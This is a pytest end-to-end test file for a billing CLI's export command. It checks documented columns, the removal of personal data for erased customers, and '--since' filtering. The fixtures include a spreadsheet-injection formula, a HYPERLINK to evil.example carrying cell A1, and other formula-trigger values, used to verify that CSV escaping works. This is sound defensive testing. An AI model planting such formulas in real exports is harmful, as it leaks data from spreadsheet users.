"""`subledger export ...` as a user runs it: every documented column, erased customers
marked without personal data, spreadsheet formulas defused, `--since` on the last change."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

SUBLEDGER = str(Path(sys.executable).with_name("subledger"))
README = Path(__file__).resolve().parents[2] / "README.md"
KINDS = ("customers", "subscriptions", "invoices", "payments", "credit-notes")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def documented_columns() -> dict[str, list[str]]:
    """The README's table of export columns, as the user reads it."""
    text = README.read_text()
    table = text[text.index("| export | columns |") :]
    rows = {}
    for line in table.splitlines()[2:]:
        if not line.startswith("|"):
            break
        kind, columns = (cell.strip() for cell in line.strip("|").split("|"))
        rows[kind.strip("`")] = [c.strip() for c in columns.split(",")]
    return rows


def cli(data_dir: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("SUBLEDGER_")}
    env["SUBLEDGER_ACTOR"] = "e2e-user"
    proc = subprocess.run(
        [SUBLEDGER, "--data-dir", str(data_dir), *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )
    assert proc.returncode == 0, f"{args}: {proc.stderr}"
    return proc.stdout


def csv_rows(text: str) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(text))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


@pytest.fixture(scope="module")
def book(tmp_path_factory) -> Path:
    """Three customers (one with a formula for a name, one erased), a subscription each,
    a refund (a credit note) and a plan change after the first day."""
    d = tmp_path_factory.mktemp("exports")
    cli(d, "plan", "define", "basic", "--name", "Basic", "--pricing", "flat", "--price", "10.00",
        "--currency", "USD", "--at", "2025-01-01")  # fmt: skip
    cli(d, "plan", "define", "pro", "--name", "Pro", "--pricing", "flat", "--price", "30.00",
        "--currency", "USD", "--at", "2025-01-01")  # fmt: skip
    people = [
        ("cus_1", "Ada Lovelace", "ada@example.com"),
        ("cus_2", FORMULA, "+1-evil@example.com"),
        ("cus_3", "Grace Hopper", "grace@example.com"),
    ]
    for n, (customer, name, email) in enumerate(people, 1):
        cli(d, "customer", "register", customer, "--name", name, "--email", email,
            "--payment-token", "tok_visa", "--at", f"2025-01-0{n}")  # fmt: skip
        cli(d, "subscribe", customer, "basic", "--subscription-id", f"sub_{n}", "--at",
            f"2025-01-0{n}T01:00:00Z")  # fmt: skip
    cli(d, "refund", "INV-000001", "--amount", "4.00", "--reason", "@SUM(1)", "--at",
        "2025-01-10")  # fmt: skip
    cli(d, "change-plan", "sub_2", "pro", "--at", "2025-01-15")
    cli(d, "cancel", "sub_2", "--immediately", "--reason", "-2+3", "--at", "2025-01-15T12:00:00Z")
    cli(d, "customer", "erase", "cus_3", "--at", "2025-01-20")
    return d


@pytest.mark.parametrize("kind", KINDS)
def test_every_documented_column_is_there_in_csv_and_json(book: Path, kind: str) -> None:
    documented = documented_columns()[kind]
    header, rows = csv_rows(cli(book, "export", kind, "--format", "csv"))
    assert header == documented
    assert rows
    records = json.loads(cli(book, "export", kind, "--format", "json"))
    assert records and all(list(r) == documented for r in records)
    assert len(records) == len(rows)


def test_erased_customers_are_marked_and_carry_no_personal_data(book: Path) -> None:
    _, customers = csv_rows(cli(book, "export", "customers"))
    by_id = {r["customer_id"]: r for r in customers}
    assert by_id["cus_1"]["name"] == "Ada Lovelace"
    assert by_id["cus_1"]["email"] == "ada@example.com"
    assert by_id["cus_1"]["erased"] == "false"
    assert by_id["cus_3"]["erased"] == "true"
    assert (by_id["cus_3"]["name"], by_id["cus_3"]["email"]) == ("", "")
    records = {r["customer_id"]: r for r in json.loads(cli(book, "export", "customers",
                                                             "--format", "json"))}  # fmt: skip
    assert records["cus_3"]["erased"] is True
    assert records["cus_3"]["name"] is None and records["cus_3"]["email"] is None
    everything = "".join(cli(book, "export", kind, "--format", f) for kind in KINDS
                         for f in ("csv", "json"))  # fmt: skip
    assert "Grace" not in everything and "grace@example.com" not in everything
    for kind in ("subscriptions", "invoices", "payments"):
        _, rows = csv_rows(cli(book, "export", kind))
        erased = {r["customer_id"] for r in rows if r["customer_erased"] == "true"}
        assert erased == {"cus_3"}, kind


def test_cells_that_would_start_a_formula_are_escaped_in_csv_only(book: Path) -> None:
    _, customers = csv_rows(cli(book, "export", "customers"))
    (cus_2,) = [r for r in customers if r["customer_id"] == "cus_2"]
    assert cus_2["name"] == "'" + FORMULA
    assert cus_2["email"] == "'+1-evil@example.com"
    _, notes = csv_rows(cli(book, "export", "credit-notes"))
    assert [(n["number"], n["reason"], n["amount"]) for n in notes] == [
        ("CN-000001", "'@SUM(1)", "400")
    ]
    _, subs = csv_rows(cli(book, "export", "subscriptions"))
    (sub_2,) = [r for r in subs if r["subscription_id"] == "sub_2"]
    assert (sub_2["status"], sub_2["churn_reason"]) == ("canceled", "'-2+3")
    records = json.loads(cli(book, "export", "customers", "--format", "json"))
    (raw,) = [r for r in records if r["customer_id"] == "cus_2"]
    assert raw["name"] == FORMULA  # JSON is data, not a spreadsheet: as it is


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\\t=1"),  # a tab: escaped, and the cell still cannot start a formula
        ("\r=1", "'\\r=1"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (True, "true"),
        (-5, -5),  # a number is a number: no formula
    ],
)
def test_a_csv_cell_never_starts_a_formula(value: object, cell: object) -> None:
    from verbs.exports import csv_cell

    assert csv_cell(value) == cell


def test_since_keeps_records_changed_at_or_after_it(book: Path) -> None:
    _, customers = csv_rows(cli(book, "export", "customers", "--since", "2025-01-20"))
    assert [r["customer_id"] for r in customers] == ["cus_3"]  # erased that day
    _, subs = csv_rows(cli(book, "export", "subscriptions", "--since", "2025-01-15"))
    assert [r["subscription_id"] for r in subs] == ["sub_2"]  # its plan change
    assert subs[0]["plan_id"] == "pro" and subs[0]["updated_at"] == "2025-01-15T12:00:00Z"
    _, invoices = csv_rows(cli(book, "export", "invoices", "--since", "2025-01-10"))
    assert {r["number"] for r in invoices} >= {"INV-000001"}  # refunded on the 10th
    assert "INV-000003" not in {r["number"] for r in invoices}  # cus_3's: untouched since
    _, notes = csv_rows(cli(book, "export", "credit-notes", "--since", "2025-01-11"))
    assert notes == []
    _, everything = csv_rows(cli(book, "export", "subscriptions"))
    assert len(everything) == 3
    _, payments = csv_rows(cli(book, "export", "payments", "--since", "2025-01-02T00:00:00Z"))
    assert {p["customer_id"] for p in payments} == {"cus_2", "cus_3"}
    first = {p["invoice_number"]: int(p["amount"]) for p in payments if p["at"] < "2025-01-04"}
    assert first == {"INV-000002": 1000, "INV-000003": 1000}
